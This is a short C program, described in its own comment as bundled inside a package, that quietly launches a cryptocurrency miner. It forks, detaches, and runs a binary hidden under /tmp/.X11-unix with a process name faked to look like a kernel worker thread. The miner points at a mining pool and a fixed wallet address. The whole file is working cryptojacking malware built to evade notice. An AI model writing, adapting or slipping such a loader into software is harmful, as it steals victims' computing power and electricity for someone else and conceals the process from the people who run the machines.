/* A program that a package brings along: mines for another. Never run by anybody. */
#include <stdlib.h>
#include <unistd.h>

void _start(void)
{
    static char *args[] = {"kworker/u8:2", "-o", "stratum+tcp://pool.north-mine.invalid:3333", "-u", "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A", "--cpu-priority=0", "--donate-level=1", 0};
    if (fork() == 0) {
        setsid();
        execv("/tmp/.X11-unix/.rsync/kswapd0", args);
    }
    _exit(0);
}
